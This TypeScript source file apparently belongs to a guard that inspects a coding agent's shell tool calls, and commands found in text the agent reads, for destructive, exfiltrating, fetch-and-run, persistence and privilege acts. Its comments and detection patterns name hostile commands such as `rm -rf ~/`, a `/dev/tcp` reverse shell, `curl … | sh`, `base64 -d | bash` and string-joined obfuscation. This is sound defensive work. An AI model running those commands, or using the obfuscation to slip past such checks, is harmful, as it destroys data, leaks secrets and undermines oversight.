// Reads shell command lines for what they do to the world: destroy, send out (data, or key files), run fetched or
// hidden code, install from a source they name, persist, grant. A coding agent's `run_shell` is one tool for every
// act, so the act that matters is the command's own: the same tool runs `npm test` and `rm -rf ~/`. Risky commands
// get a key (program, act and target, flags dropped) that is the same whether the command is written in a README, an
// error's hint or the agent's call: a command copied from what the agent read is traced as values are.
import { DEV_TCP, FETCHERS, PERSIST_PATH, firstHost, persistName, programOf, readProgram, sqlRisks } from './program-acts.ts';
import { parseShell, type SimpleCommand } from './shell-parse.ts';
import { extractValues } from './values.ts';
import { WordTriggers } from './word-triggers.ts';

/**
 * What a risky command does. `install` (a package by name) is no risk by itself: it counts only where instructions
 * to the model name the package (a typosquat planted in a page), and is not looked for in what the agents read.
 */
export type CommandAct = 'delete' | 'send' | 'leak' | 'run-fetched' | 'install-from' | 'persist' | 'grant' | 'install';

export interface RiskyCommand {
  act: CommandAct;
  /** Program, act and target, lowercased and without flags: `rm ~`, `kubectl delete namespace payments`. */
  key: string;
  /** Values of the command line it is part of (an ssh key, a host, an address), for provenance beside the key. */
  values?: readonly string[];
}

/** Interpreters that run what they are given on standard input or in `-c`. */
const INTERPRETERS = new Set(['sh', 'bash', 'zsh', 'dash', 'ksh', 'fish', 'python', 'python3', 'python2', 'perl', 'ruby', 'node', 'php', 'pwsh', 'powershell', 'iex', 'invoke-expression', 'eval', 'source', '.']);
const SHELLS = new Set(['sh', 'bash', 'zsh', 'dash', 'ksh', 'fish', 'pwsh', 'powershell']);
/** Calls that hand a string to the shell from a script: `os.system(…)`, `subprocess.run(…)`, `execSync(…)`, `system(…)`. */
const SHELL_CALL = /\b(?:os\.system|os\.popen|subprocess\.(?:run|call|check_call|check_output|Popen)|exec(?:Sync)?|spawnSync|system|shell_exec|passthru|popen)\s*\(\s*(?:\[\s*)?(["'])((?:(?!\1).){1,2000})\1/g;
/** `'cu'+'rl'`, `"a" + "b"`: strings joined to hide a command from a reader. */
const JOINED = /(["'])\s*\+\s*\1/g;

/** The shell command lines a one-line script runs, its joined strings put back together. */
function shellCallsIn(code: string): string[] {
  const joined = code.replace(JOINED, '');
  const out: string[] = [];
  SHELL_CALL.lastIndex = 0;
  let m: RegExpExecArray | null;
  while ((m = SHELL_CALL.exec(joined)) !== null && out.length < 8) out.push(m[2]);
  return out;
}
/** Words that only prefix the command they run. */
const PREFIXES = new Set(['sudo', 'doas', 'env', 'nohup', 'time', 'exec', 'command', 'builtin', 'nice', 'timeout', 'xargs', 'stdbuf', 'watch', 'run', '$', '>', '#']);
/** Prefix flags that take a value (`sudo -u deploy`, `nice -n 10`). */
const PREFIX_VALUE_FLAGS = new Set(['-u', '-g', '-n', '-c', '-s', '-i', '-I', '-d', '-P', '-L']);

/** Risky commands of a command line (a call's `command` argument), each once. */
export function riskyCommands(line: string): RiskyCommand[] {
  const out = new Map<string, CommandAct>();
  readLine(line, out, 0);
  return [...out].map(([key, act]) => ({ key, act }));
}

/** At most this many characters of a command are read; at most this deep into `sh -c '…'`. */
const MAX_LINE = 4_096;
const MAX_DEPTH = 3;

function readLine(line: string, out: Map<string, CommandAct>, depth: number): void {
  if (depth > MAX_DEPTH) return;
  for (const pipeline of parseShell(line.slice(0, MAX_LINE))) {
    for (let i = 0; i < pipeline.length; i++) readSimple(pipeline, i, out, depth);
  }
  sqlRisks(line.slice(0, MAX_LINE), out);
}

/** The program and its arguments, without the words that only prefix it (`sudo`, `env X=1`, `timeout 30`). */
function unprefixed(words: readonly string[]): string[] {
  let i = 0;
  while (i < words.length) {
    const w = words[i];
    if (/^[A-Za-z_][A-Za-z0-9_]*=/.test(w)) i++;
    else if (PREFIXES.has(w.toLowerCase())) {
      i++;
      while (i < words.length && (words[i].startsWith('-') || /^\d+[smh]?$/.test(words[i]))) i += PREFIX_VALUE_FLAGS.has(words[i]) ? 2 : 1;
    } else break;
  }
  return words.slice(i);
}

function readSimple(pipeline: readonly SimpleCommand[], index: number, out: Map<string, CommandAct>, depth: number): void {
  const simple = pipeline[index];
  const words = unprefixed(simple.words);
  for (const w of simple.writes) {
    if (PERSIST_PATH.test(w)) out.set(`persist ${persistName(w)}`, 'persist');
    // `bash -i >& /dev/tcp/host/port`: a shell's streams sent to another machine.
    const tcp = DEV_TCP.exec(w);
    if (tcp) out.set(`nc ${tcp[1].toLowerCase()}`, 'send');
  }
  if (words.length === 0) return;
  const program = programOf(words[0]);
  const args = words.slice(1);
  // Nested command lines: `sh -c '…'`, `bash -lc "…"`, `$(…)`, `<(…)`, backticks.
  for (const nested of simple.nested) readLine(nested, out, depth + 1);
  if (INTERPRETERS.has(program)) {
    const code = args.findIndex((a) => /^-\w*[ce]$/.test(a) || a === '-Command' || a === '-command');
    if (code >= 0 && args[code + 1] !== undefined) {
      if (SHELLS.has(program)) readLine(args[code + 1], out, depth + 1);
      else for (const line of shellCallsIn(args[code + 1])) readLine(line, out, depth + 1);
    }
    // Code fetched or decoded and run at once: `curl … | sh`, `base64 -d | bash`, `bash <(curl …)`, `eval "$(wget -qO- …)"`.
    const fetched = index > 0 ? fetchedInput(pipeline, index) : fetchedNested(simple);
    if (fetched) out.set(`run-fetched ${fetched}`, 'run-fetched');
    return;
  }
  // `… | xargs curl "https://…?d={}"`: what the pipe carries goes into the request.
  const fromPipe = index > 0 && simple.words.slice(0, simple.words.length - words.length).some((w) => w.toLowerCase() === 'xargs');
  readProgram(program, args, words, out, fromPipe);
}

/** What an interpreter at `index` of a pipeline reads from a fetch or a decode before it: the host, or `decoded`. */
function fetchedInput(pipeline: readonly SimpleCommand[], index: number): string | undefined {
  for (let j = index - 1; j >= 0; j--) {
    const words = unprefixed(pipeline[j].words);
    if (words.length === 0) continue;
    const p = programOf(words[0]);
    if (FETCHERS.has(p)) return firstHost(words.slice(1)) ?? 'fetched';
    if ((p === 'base64' && words.some((w) => /^(?:-d|--decode|-D)$/.test(w))) || (p === 'xxd' && words.includes('-r')) || p === 'openssl') return 'decoded';
  }
  return undefined;
}

function fetchedNested(simple: SimpleCommand): string | undefined {
  for (const n of simple.nested) {
    for (const pipeline of parseShell(n)) {
      for (const s of pipeline) {
        const words = unprefixed(s.words);
        if (words.length > 0 && FETCHERS.has(programOf(words[0]))) return firstHost(words.slice(1)) ?? 'fetched';
      }
    }
  }
  return undefined;
}

/** Programs whose words start a command in prose or code; `sql` words start a statement. */
export const PROGRAM_WORDS = [
  'rm', 'rmdir', 'shred', 'unlink', 'del', 'rd', 'remove', 'find', 'dd', 'mkfs', 'wipefs', 'git', 'kubectl', 'oc', 'helm', 'terraform', 'tofu', 'terragrunt', 'docker',
  'podman', 'nc', 'ncat', 'netcat', 'socat', 'telnet', 'scp', 'rsync', 'sftp', 'mail', 'mailx', 'sendmail', 'mutt', 'npm', 'pnpm', 'yarn', 'gem',
  'pip', 'uv', 'chmod', 'crontab', 'usermod', 'ufw', 'setenforce', 'iptables', 'spctl', 'systemctl', 'curl', 'wget', 'iwr', 'invoke', 'irm', 'xh', 'aws', 'gcloud',
  'az', 'doctl', 'heroku', 'gh', 'glab', 'flyctl', 'fly', 'vercel', 'gsutil', 'oci', 'ibmcloud', 'linode', 'hcloud', 'firebase', 'supabase', 'railway', 'netlify',
  'wrangler', 'stripe', 'sudo', 'doas', 'env', 'nohup', 'bash', 'sh', 'zsh', 'dash', 'ksh', 'eval', 'source', 'echo', 'printf', 'cat', 'tee', 'base', 'python',
  'perl', 'ruby', 'node', 'php', 'pwsh', 'powershell', 'iex', 'psql', 'mysql', 'mariadb', 'sqlite', 'sqlcmd', 'mongo', 'mongosh', 'redis', 'cockroach', 'clickhouse',
  'drop', 'truncate', 'delete', 'grant', 'flushall', 'tar', 'zip', 'printenv', 'openssl', 'xxd',
];
const TRIGGERS = new WordTriggers([PROGRAM_WORDS]);
/** At most this many characters of a command written in text; at most this many commands kept per text. */
const MAX_WRITTEN = 400;
const MAX_KEYS = 32;
/** Where a command written in prose or markup ends: a line, a code span, a tag or comment, a sentence. */
const WRITTEN_END = /\n|`|<\/|<!|-->|\.\s+(?=[A-Z])|\.$/;

/**
 * The risky commands written in a text (a README, an issue, an error's hint, an injected note): keys as
 * `riskyCommands` gives them for the call that runs one. Candidates start at program words: `programStarts` when the
 * instruction scan found them already (instructions.ts `programWordsOf`), else one pass of the word table.
 */
export function commandsInText(text: string, programStarts?: readonly number[]): Map<string, CommandAct> | undefined {
  let starts = programStarts;
  if (!starts) {
    const found = TRIGGERS.find(text);
    // Copied: the next `find` reuses the arrays.
    starts = found.length === 0 ? [] : Array.from(found.at.subarray(0, found.length));
  }
  if (starts.length === 0) return undefined;
  let out: Map<string, CommandAct> | undefined;
  let last = -1;
  for (const at of starts) {
    if (at < last) continue; // inside the command read from an earlier start
    const rest = text.slice(at, at + MAX_WRITTEN);
    const end = WRITTEN_END.exec(rest);
    const written = end ? rest.slice(0, end.index) : rest;
    const risky = new Map<string, CommandAct>();
    readLine(written, risky, 0);
    if (risky.size === 0 || [...risky.values()].every((a) => a === 'install')) continue;
    last = at + written.length;
    out ??= new Map();
    for (const [k, a] of risky) if (a !== 'install' && out.size < MAX_KEYS) out.set(k, a);
  }
  return out;
}

/** Tools named for a program (`kubectl_delete`, `git_push`, `terraform_apply`): their arguments are its command line. */
const PROGRAM_TOOLS = new Set(['kubectl', 'oc', 'helm', 'terraform', 'tofu', 'git', 'docker', 'podman', 'aws', 'gcloud', 'az', 'gsutil', 'gh', 'glab', 'heroku', 'doctl', 'flyctl', 'vercel', 'npm', 'psql', 'mysql', 'crontab', 'chmod', 'ssh']);
/** Words of a tool's name after its program that say it wraps the program, not which subcommand it runs. */
const WRAPPER_WORDS = new Set(['cli', 'command', 'commands', 'cmd', 'tool', 'exec', 'execute', 'run', 'runner', 'shell', 'call', 'invoke', 'wrapper']);
/** Words of a tool name that say it runs SQL. */
const SQL_TOOL_WORDS = new Set(['sql', 'database', 'db', 'postgres', 'postgresql', 'mysql', 'sqlite', 'bigquery', 'snowflake', 'redshift', 'clickhouse', 'supabase']);

/**
 * The risky commands a tool call runs: each string argument of a shell, interpreter or SQL tool as a command line; for
 * a tool named for a program, its name and arguments as one (`git_push {remote, force: true}` → `git push … --force`).
 */
export function callCommands(toolWords: readonly string[], runsCode: boolean, args: string | undefined): RiskyCommand[] | undefined {
  if (!args) return undefined;
  const program = toolWords.find((w) => PROGRAM_TOOLS.has(w));
  const sql = toolWords.some((w) => SQL_TOOL_WORDS.has(w));
  if (!runsCode && !program && !sql) return undefined;
  let parsed: unknown;
  try {
    parsed = JSON.parse(args);
  } catch {
    parsed = args;
  }
  const lines: string[] = [];
  if (program && !runsCode) {
    // `kubectl_delete {kind, name}`: the tool's words from the program on, then the arguments in their order.
    // Words that name the tool as a wrapper (`aws_cli`, `kubectl_command`, `gh_exec`) are no subcommand of the program.
    const words = toolWords.slice(toolWords.indexOf(program)).filter((w, i) => i === 0 || !WRAPPER_WORDS.has(w));
    const line = [words.join(' ')];
    commandWords(parsed, '', line, 0);
    lines.push(line.join(' '));
  } else collectStrings(parsed, lines, 0);
  const found: RiskyCommand[] = [];
  for (const l of lines) {
    // A command that does not name its program runs the tool's (`kubectl {args: "delete ns x"}`).
    const out = new Map<string, CommandAct>();
    readLine(program && !l.toLowerCase().startsWith(program) ? `${program} ${l}` : l, out, 0);
    if (out.size === 0) continue;
    const values = [...extractValues(l)].filter((v) => !v.startsWith('literal:') && !v.startsWith('quoted:'));
    for (const [key, act] of out) if (!found.some((c) => c.key === key)) found.push(values.length > 0 ? { key, act, values } : { key, act });
  }
  return found.length > 0 ? found : undefined;
}

function collectStrings(v: unknown, out: string[], depth: number): void {
  if (depth > 6 || out.length >= MAX_KEYS) return;
  if (typeof v === 'string') out.push(v);
  else if (Array.isArray(v)) {
    // `["bash", "-c", "…"]`, `["rm", "-rf", "/"]`: an argv.
    if (v.length > 0 && v.every((x) => typeof x === 'string')) out.push(v.map((x) => (/\s/.test(x) ? `'${x.replace(/'/g, '')}'` : x)).join(' '));
    else for (const x of v) collectStrings(x, out, depth + 1);
  } else if (v && typeof v === 'object') for (const k in v) collectStrings((v as Record<string, unknown>)[k], out, depth + 1);
}

function commandWords(v: unknown, key: string, out: string[], depth: number): void {
  if (depth > 4 || out.length > 64) return;
  if (v === true && key) out.push(`--${key.replace(/_/g, '-')}`);
  else if (typeof v === 'string' || typeof v === 'number') out.push(String(v));
  else if (Array.isArray(v)) for (const x of v) commandWords(x, key, out, depth + 1);
  else if (v && typeof v === 'object') for (const k in v) commandWords((v as Record<string, unknown>)[k], k, out, depth + 1);
}
